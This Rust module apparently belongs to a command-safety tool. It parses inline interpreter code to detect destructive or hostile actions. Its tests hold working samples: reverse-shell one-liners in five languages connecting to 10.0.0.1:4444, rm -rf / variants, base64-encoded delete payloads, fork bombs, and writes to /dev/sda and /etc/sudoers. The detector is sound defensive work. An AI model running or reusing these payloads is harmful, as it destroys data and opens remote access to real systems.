//! Inline interpreter code (`python -c`, `node -e`, `perl -e`, heredocs into `python3 -`): the shell commands, deletions, writes, kills, fork loops and reverse shells it would perform.
//!
//! The code is lexed under its language's rules (`lex`), so that a call
//! named inside a string literal is text, not a call; calls are then read
//! with their real arguments (balanced brackets and quotes) and the values
//! of those arguments computed where the code makes them plain: literals,
//! concatenations, simple variables, home-directory expressions, path joins
//! and base64 or hex decoding (`view`). `calls` says what each call does.

mod calls;
mod lex;
mod patterns;
mod value;
mod view;

use std::collections::HashSet;

use once_cell::sync::Lazy;
use regex::Regex;

use super::command::Command;
use lex::Dialect;
use view::{Span, View};

/// Something the code would do that the shell rules can judge.
#[derive(Debug, Clone, PartialEq, Eq, Hash)]
pub enum Action {
    /// A command line handed to a shell (`os.system`, backticks), or a
    /// program and its arguments quoted as one (`subprocess.run([...])`).
    Shell(String),
    /// A program the code itself acts as (`rm -r -f PATH` for
    /// `shutil.rmtree(PATH)`, `kill -9 -1` for `os.kill(-1, 9)`).
    Run(Vec<String>),
    /// A file opened for writing (`open(P, 'w')`, `fs.writeFileSync(P, ...)`).
    Write { path: String, append: bool },
    /// A loop that keeps forking: its source.
    ForkLoop(String),
    /// A socket to a remote host wired to a shell.
    ReverseShell,
}

#[derive(Debug, Clone, PartialEq, Eq, Hash)]
pub struct Effect {
    pub action: Action,
    /// The action came out of a decoded payload (`b64decode`, `atob`).
    pub decoded: bool,
}

/// What reading the code found.
#[derive(Debug, Default)]
pub struct Reading {
    pub effects: Vec<Effect>,
    seen: HashSet<Effect>,
    /// Why the reading stopped short, if it did: the code went past a limit.
    pub limit: Option<&'static str>,
}

impl Reading {
    fn push(&mut self, action: Action, decoded: bool) {
        let effect = Effect { action, decoded };
        if self.seen.insert(effect.clone()) {
            self.effects.push(effect);
        }
    }

    fn merge(&mut self, other: Reading) {
        for effect in other.effects {
            self.push(effect.action, effect.decoded);
        }
        if self.limit.is_none() {
            self.limit = other.limit;
        }
    }
}

/// Inline code waiting to be read by the rules of the program that runs it.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Found {
    code: String,
}

/// Keeps interpreter code for [`Found::read`].
pub fn scan(code: &str) -> Found {
    Found {
        code: code.to_string(),
    }
}

impl Found {
    /// What the code does when `program` (an interpreter) runs it.
    pub fn read(&self, program: &str) -> Reading {
        let dialect = match language(program) {
            Some("node") => Dialect::Js,
            Some("ruby") => Dialect::Ruby,
            Some("perl") => Dialect::Perl,
            Some("php") => Dialect::Php,
            Some("lua") => Dialect::Lua,
            _ => Dialect::Python,
        };
        read_code(&self.code, dialect, 0, false)
    }
}

static IDENT: Lazy<Regex> =
    Lazy::new(|| Regex::new(r"[A-Za-z_$][A-Za-z0-9_$]*").expect("identifier regex is valid"));

fn read_code(code: &str, dialect: Dialect, depth: usize, decoded: bool) -> Reading {
    let tokens: Vec<Span> = IDENT
        .find_iter(code)
        .filter(|m| calls::interesting(m.as_str()))
        .map(|m| (m.start(), m.end()))
        .collect();
    let lexed = lex::lex(code, dialect);
    let view = View::new(code, dialect, &lexed);
    let mut reading = Reading::default();
    calls::Reader::new(&view, &mut reading, depth, decoded).read(&lexed, &tokens);
    if let Some(why) = view.incomplete.get() {
        reading.limit.get_or_insert(why);
    }
    reading
}

/// The interpreter family of a program name, if it is one.
pub fn language(program: &str) -> Option<&'static str> {
    let base = program.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.');
    match base {
        "python" | "pypy" => Some("python"),
        "perl" => Some("perl"),
        "ruby" => Some("ruby"),
        // jrunscript and jjs run JavaScript on the JVM, where `exec` runs a command.
        "node" | "nodejs" | "deno" | "bun" | "jrunscript" | "jjs" => Some("node"),
        // Julia's backtick literals are commands, as Ruby's are, and its
        // `-e` takes code as Ruby's does: its one-liners are read as Ruby.
        "julia" => Some("ruby"),
        "php" => Some("php"),
        "lua" | "luajit" => Some("lua"),
        "rscript" | "r" => Some("r"),
        _ => None,
    }
}

/// How an interpreter reads its short options.
struct Options {
    /// Options whose value is code (`-c`, `-e`).
    code: &'static str,
    /// Whether code may be attached to its option (`-cCODE`).
    attached: bool,
    /// Options whose value is attached or the next argument (`-W ignore`).
    valued: &'static str,
    /// Options that take the rest of their cluster (`-MFile::Path=rmtree`).
    rest: &'static str,
    /// Options followed by digits (`-l0`, `-0777`).
    digits: &'static str,
    /// Options after which the program is not inline code (`-m module`, `-f file`).
    script: &'static str,
    /// Long options that take the next argument.
    long_valued: &'static [&'static str],
    /// Long options whose value is code.
    long_code: &'static [&'static str],
}

fn options(language: &str) -> Options {
    let none: &[&str] = &[];
    match language {
        "python" => Options {
            code: "c",
            attached: true,
            valued: "WX",
            rest: "",
            digits: "",
            script: "m",
            long_valued: none,
            long_code: none,
        },
        "perl" => Options {
            code: "eE",
            attached: true,
            valued: "I",
            rest: "MmxiCDdFV",
            digits: "l0",
            script: "",
            long_valued: none,
            long_code: none,
        },
        "ruby" => Options {
            code: "e",
            attached: true,
            valued: "rICE",
            rest: "xFiKTW",
            digits: "0",
            script: "",
            long_valued: none,
            long_code: none,
        },
        "node" => Options {
            code: "ep",
            attached: false,
            valued: "rC",
            rest: "",
            digits: "",
            script: "",
            long_valued: &[
                "--require",
                "--import",
                "--loader",
                "--experimental-loader",
                "--conditions",
                "--title",
                "--env-file",
            ],
            long_code: &["--eval", "--print"],
        },
        "php" => Options {
            code: "rBRE",
            attached: true,
            valued: "dctz",
            rest: "",
            digits: "",
            script: "f",
            long_valued: none,
            long_code: none,
        },
        "lua" => Options {
            code: "e",
            attached: true,
            valued: "l",
            rest: "",
            digits: "",
            script: "",
            long_valued: none,
            long_code: none,
        },
        _ => Options {
            code: "e",
            attached: true,
            valued: "",
            rest: "",
            digits: "",
            script: "",
            long_valued: none,
            long_code: &["--eval"],
        },
    }
}

/// The code an interpreter command runs inline: its `-c`/`-e`/`-r` argument,
/// or its stdin when it reads the program from stdin.
pub fn inline_code(cmd: &Command) -> Option<String> {
    let language = language(&cmd.program)?;
    let opts = options(language);
    // Python stops reading options at `-c`; what follows is the program's argv.
    let stop_at_code = language == "python";
    let mut code: Vec<String> = Vec::new();
    let mut has_script = false;
    let mut iter = cmd.args.iter();
    // Deno and Bun name their action first (`deno eval CODE`, `bun run x`).
    let mut first = true;
    'args: while let Some(arg) = iter.next() {
        if std::mem::take(&mut first) && matches!(cmd.program.as_str(), "deno" | "bun") {
            match arg.as_str() {
                "eval" => {
                    code.extend(iter.next().cloned());
                    continue;
                }
                a if !a.starts_with('-') => {
                    has_script = true;
                    break;
                }
                _ => {}
            }
        }
        if arg == "-" {
            break;
        }
        if arg == "--" || !arg.starts_with('-') {
            has_script = true;
            break;
        }
        if let Some(long) = arg.strip_prefix("--") {
            let (key, value) = match long.split_once('=') {
                Some((k, v)) => (format!("--{k}"), Some(v)),
                None => (arg.clone(), None),
            };
            if opts.long_code.contains(&key.as_str()) {
                code.extend(value.map(str::to_string).or_else(|| iter.next().cloned()));
            } else if opts.long_valued.contains(&key.as_str()) && value.is_none() {
                iter.next();
            }
            continue;
        }
        let cluster: Vec<char> = arg.chars().skip(1).collect();
        let mut k = 0;
        let mut wants_code = false;
        while k < cluster.len() {
            let c = cluster[k];
            let rest: String = cluster[k + 1..].iter().collect();
            if opts.code.contains(c) && !opts.attached {
                // `node -pe CODE`: the flags share the next argument.
                wants_code = true;
                k += 1;
            } else if opts.code.contains(c) {
                code.extend(if rest.is_empty() {
                    iter.next().cloned()
                } else {
                    Some(rest)
                });
                if stop_at_code {
                    break 'args;
                }
                break;
            } else if opts.script.contains(c) {
                has_script = true;
                break 'args;
            } else if opts.valued.contains(c) {
                if rest.is_empty() {
                    iter.next();
                }
                break;
            } else if opts.rest.contains(c) {
                break;
            } else if opts.digits.contains(c) {
                k += 1;
                while k < cluster.len() && ('0'..='7').contains(&cluster[k]) {
                    k += 1;
                }
            } else if c.is_ascii_alphabetic() {
                k += 1;
            } else {
                break;
            }
        }
        if wants_code {
            code.extend(iter.next().cloned());
        }
    }
    if code.is_empty() && !has_script {
        return cmd.stdin.clone();
    }
    (!code.is_empty()).then(|| code.join("\n"))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn effects(program: &str, code: &str) -> Vec<Action> {
        scan(code)
            .read(program)
            .effects
            .into_iter()
            .map(|e| e.action)
            .collect()
    }

    fn shell(program: &str, code: &str) -> Vec<String> {
        effects(program, code)
            .into_iter()
            .filter_map(|a| match a {
                Action::Shell(s) => Some(s),
                _ => None,
            })
            .collect()
    }

    fn run(argv: &[&str]) -> Action {
        Action::Run(argv.iter().map(|s| s.to_string()).collect())
    }

    fn write(path: &str, append: bool) -> Action {
        Action::Write {
            path: path.into(),
            append,
        }
    }

    #[test]
    fn shell_calls() {
        assert_eq!(
            shell("python3", "__import__('os').system('rm -rf /')"),
            ["rm -rf /"]
        );
        assert_eq!(
            shell(
                "python3",
                "import subprocess; subprocess.run(['rm','-rf','/'])"
            ),
            ["'rm' '-rf' '/'"]
        );
        assert_eq!(
            shell(
                "python3",
                "import os; os.execvp('rm', ['rm', '-rf', '/usr'])"
            ),
            ["'rm' '-rf' '/usr'"]
        );
        assert_eq!(
            shell(
                "node",
                "require('child_process').spawnSync('rm', ['-rf', '/boot'])"
            ),
            ["'rm' '-rf' '/boot'"]
        );
        assert_eq!(
            shell("perl", "system \"rm\", \"-rf\", \"/\" if 1"),
            ["'rm' '-rf' '/'"]
        );
        assert_eq!(shell("ruby", "`rm -rf ~`"), ["rm -rf ~"]);
        assert_eq!(shell("perl", "print qx{reboot}"), ["reboot"]);
        assert_eq!(
            shell("python3", "c = 'rm -rf /'\nimport os\nos.system(c)"),
            ["rm -rf /"]
        );
        assert_eq!(
            shell("python3", "os.system('rm -rf ' + d)"),
            ["rm -rf \"$(interpreter value)\""]
        );
        // Python's exec runs Python; Perl's runs a program.
        assert_eq!(
            shell("python3", "exec('import os; os.system(\"reboot\")')"),
            ["reboot"]
        );
        assert_eq!(shell("perl", "exec 'reboot'"), ["reboot"]);
        // A command whose program is unknown is left alone.
        assert!(shell("python3", "os.system(tool + ' --force')").is_empty());
        // JavaScript backticks are strings, not commands.
        assert!(shell("node", "console.log(`rm -rf /`)").is_empty());
    }

    #[test]
    fn names_inside_strings_are_text() {
        assert!(effects("python3", r#"print("shutil.rmtree(\"/\")")"#).is_empty());
        assert!(effects("ruby", r#"puts "FileUtils.rm_rf(\"/\")""#).is_empty());
        assert!(effects("python3", "print('rm -rf /')").is_empty());
        assert!(effects(
            "python3",
            "import json,sys; print(json.load(sys.stdin)['a'])"
        )
        .is_empty());
        assert!(effects("node", "console.log(process.version)").is_empty());
        assert!(effects("php", "echo \"shell_exec(rm -rf /)\\n\";").is_empty());
        assert!(
            effects("python3", "# it's\nimport shutil; shutil.rmtree('/')")
                .contains(&run(&["rm", "-r", "-f", "/"]))
        );
        // Interpolated code runs.
        assert_eq!(shell("ruby", "puts \"#{system('reboot')}\""), ["reboot"]);
    }

    #[test]
    fn recursive_deletes_with_balanced_arguments() {
        let rm_rf = |p: &str| run(&["rm", "-r", "-f", p]);
        assert_eq!(
            effects("python3", "import shutil; shutil.rmtree('/home/user')"),
            [rm_rf("/home/user")]
        );
        assert_eq!(
            effects(
                "node",
                "require('fs').rmSync(require('os').homedir(), {recursive:true})"
            ),
            [rm_rf("~")]
        );
        assert_eq!(
            effects("python3", "shutil.rmtree(os.path.expanduser('~'))"),
            [rm_rf("~")]
        );
        assert_eq!(
            effects("python3", "shutil.rmtree(Path.home() / '.cache')"),
            [rm_rf("~/.cache")]
        );
        assert_eq!(effects("ruby", "FileUtils.rm_rf(Dir.home)"), [rm_rf("~")]);
        assert_eq!(effects("perl", "remove_tree(\"/usr\")"), [rm_rf("/usr")]);
        assert_eq!(
            effects("node", "fs.rmSync(process.env.HOME, {recursive: true})"),
            [rm_rf("~")]
        );
        assert_eq!(effects("perl", "rmtree($ENV{HOME})"), [rm_rf("~")]);
        assert_eq!(
            effects("ruby", "FileUtils.rm_rf(ENV['HOME'])"),
            [rm_rf("~")]
        );
        assert_eq!(
            effects("python3", "shutil.rmtree(os.environ['HOME'])"),
            [rm_rf("~")]
        );
        assert_eq!(
            effects("node", "fs.rmSync('dist', {recursive: true, force: true})"),
            [rm_rf("dist")]
        );
    }

    #[test]
    fn single_file_deletes() {
        let rm = |p: &str| run(&["rm", p]);
        assert_eq!(
            effects("python3", "import os; os.remove('/etc/passwd')"),
            [rm("/etc/passwd")]
        );
        assert_eq!(
            effects("python3", "os.unlink('/etc/hosts')"),
            [rm("/etc/hosts")]
        );
        assert_eq!(
            effects("python3", "Path('/etc/hosts').unlink()"),
            [rm("/etc/hosts")]
        );
        assert_eq!(
            effects("node", "fs.unlinkSync('/etc/hosts')"),
            [rm("/etc/hosts")]
        );
        assert_eq!(
            effects("ruby", "File.delete('/etc/hosts')"),
            [rm("/etc/hosts")]
        );
        assert_eq!(
            effects("perl", "unlink '/etc/hosts', '/etc/motd'"),
            [rm("/etc/hosts"), rm("/etc/motd")]
        );
        assert!(effects("python3", "os.remove(tmp)").is_empty());
    }

    #[test]
    fn file_writes() {
        assert_eq!(
            effects("python3", "open('/dev/sda', 'wb').write(b'\\0' * 512)"),
            [write("/dev/sda", false)]
        );
        assert_eq!(
            effects("python3", "open('/etc/x', mode='a')"),
            [write("/etc/x", true)]
        );
        assert_eq!(
            effects("python3", "Path('/etc/sudoers').write_text('x')"),
            [write("/etc/sudoers", false)]
        );
        assert_eq!(
            effects(
                "node",
                "require('fs').writeFileSync('/etc/sudoers', 'dev ALL=(ALL) NOPASSWD:ALL\\n')"
            ),
            [write("/etc/sudoers", false)]
        );
        assert_eq!(
            effects("ruby", "File.write('/etc/sudoers', 'x')"),
            [write("/etc/sudoers", false)]
        );
        assert_eq!(
            effects("perl", "open(F, '>/etc/sudoers')"),
            [write("/etc/sudoers", false)]
        );
        assert_eq!(
            effects("perl", "open(my $fh, '>>', '/etc/sudoers')"),
            [write("/etc/sudoers", true)]
        );
        assert_eq!(shell("perl", "open(F, 'rm -rf / |')"), ["rm -rf /"]);
        // Reading is not writing.
        assert!(effects("python3", "open(p).read(); open('x', 'r')").is_empty());
        assert!(effects(
            "python3",
            "import json; print(json.load(open('package.json')))"
        )
        .is_empty());
    }

    #[test]
    fn kill_all_and_fork_loops() {
        let kill = run(&["kill", "-9", "-1"]);
        for (program, code) in [
            ("python3", "import os; os.kill(-1, 9)"),
            ("node", "process.kill(-1)"),
            ("ruby", "Process.kill('KILL', -1)"),
            ("perl", "kill 9, -1"),
        ] {
            assert_eq!(
                effects(program, code),
                std::slice::from_ref(&kill),
                "{code}"
            );
        }
        assert!(effects("python3", "os.kill(12345, 9)").is_empty());
        for (program, code) in [
            ("python3", "import os\nwhile True: os.fork()"),
            ("python3", "import os\nwhile 1:\n    os.fork()\n"),
            ("ruby", "loop { fork }"),
            ("perl", "fork while fork"),
            ("perl", "while(1){fork}"),
            ("php", "for(;;) pcntl_fork();"),
        ] {
            let found = effects(program, code);
            assert!(
                matches!(found.as_slice(), [Action::ForkLoop(_)]),
                "{code}: {found:?}"
            );
        }
        assert!(effects(
            "python3",
            "while True:\n    pid = os.fork()\n    os.waitpid(pid, 0)"
        )
        .is_empty());
        assert!(effects("python3", "pid = os.fork()").is_empty());
        assert!(effects("python3", "print('while True: os.fork()')").is_empty());
    }

    #[test]
    fn reverse_shells() {
        let py = r#"import socket,subprocess,os;s=socket.socket();s.connect(("10.0.0.1",4444));os.dup2(s.fileno(),0);subprocess.call(["/bin/sh","-i"])"#;
        assert!(effects("python3", py).contains(&Action::ReverseShell));
        let php = r#"$s=fsockopen("10.0.0.1",4444);exec("/bin/sh -i <&3 >&3 2>&3");"#;
        assert!(effects("php", php).contains(&Action::ReverseShell));
        let ruby = r#"require 'socket';s=TCPSocket.new("10.0.0.1",4444);[0,1,2].each{|f|s.reopen(f) rescue nil};exec "/bin/sh -i""#;
        assert!(effects("ruby", ruby).contains(&Action::ReverseShell));
        let perl = r#"use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));connect(S,sockaddr_in(4444,inet_aton("10.0.0.1")));open(STDIN,">&S");open(STDOUT,">&S");exec("/bin/sh")"#;
        assert!(effects("perl", perl).contains(&Action::ReverseShell));
        let node = r#"var net=require("net"),cp=require("child_process"),sh=cp.spawn("/bin/sh",[]);var c=new net.Socket();c.connect(4444,"10.0.0.1",function(){c.pipe(sh.stdin);sh.stdout.pipe(c);});"#;
        assert!(effects("node", node).contains(&Action::ReverseShell));
        let reads = "import socket; s=socket.socket(); s.connect(('h', 1)); cmd = open('/bin/sh', 'rb').read(4)";
        assert!(!effects("python3", reads).contains(&Action::ReverseShell));
        let client =
            "import socket; s = socket.create_connection(('example.com', 80)); s.sendall(b'GET /')";
        assert!(!effects("python3", client).contains(&Action::ReverseShell));
    }

    #[test]
    fn decoded_payloads() {
        let found = scan("import base64,os; os.system(base64.b64decode('cm0gLXJmIC8=').decode())")
            .read("python3");
        assert_eq!(
            found.effects,
            [Effect {
                action: Action::Shell("rm -rf /".into()),
                decoded: true
            }]
        );
        let found = scan("eval(atob('cmVxdWlyZSgiZnMiKS5ybVN5bmMoIi8iLHtyZWN1cnNpdmU6dHJ1ZX0p'))")
            .read("node");
        assert_eq!(
            found.effects,
            [Effect {
                action: run(&["rm", "-r", "-f", "/"]),
                decoded: true
            }]
        );
    }

    fn code_of(program: &str, args: &[&str]) -> Option<String> {
        inline_code(&Command::new(program, args))
    }

    #[test]
    fn inline_code_options() {
        assert_eq!(
            code_of("perl", &["-MFile::Path=remove_tree", "-e", "x"]).as_deref(),
            Some("x")
        );
        assert_eq!(
            code_of("perl", &["-Msome", "-e", "x"]).as_deref(),
            Some("x")
        );
        assert_eq!(
            code_of("perl", &["-lne", "x", "file"]).as_deref(),
            Some("x")
        );
        assert_eq!(
            code_of("perl", &["-e", "a", "-e", "b"]).as_deref(),
            Some("a\nb")
        );
        assert_eq!(code_of("perl", &["-ie", "x"]), None);
        assert_eq!(
            code_of("ruby", &["-rfileutils", "-e", "x"]).as_deref(),
            Some("x")
        );
        assert_eq!(
            code_of("ruby", &["-r", "json", "-e", "x"]).as_deref(),
            Some("x")
        );
        assert_eq!(
            code_of("python3", &["-Bc", "x", "-c", "y"]).as_deref(),
            Some("x")
        );
        assert_eq!(code_of("python3", &["-cx"]).as_deref(), Some("x"));
        assert_eq!(code_of("python3", &["-m", "json.tool"]), None);
        assert_eq!(
            code_of("python3", &["-W", "ignore", "-c", "x"]).as_deref(),
            Some("x")
        );
        assert_eq!(code_of("node", &["-pe", "x"]).as_deref(), Some("x"));
        assert_eq!(code_of("node", &["--eval=x"]).as_deref(), Some("x"));
        assert_eq!(
            code_of("node", &["-r", "ts-node/register", "-e", "x"]).as_deref(),
            Some("x")
        );
        assert_eq!(code_of("deno", &["eval", "x"]).as_deref(), Some("x"));
        assert_eq!(code_of("php", &["-r", "x"]).as_deref(), Some("x"));
        assert_eq!(code_of("node", &["script.js"]), None);
    }
}
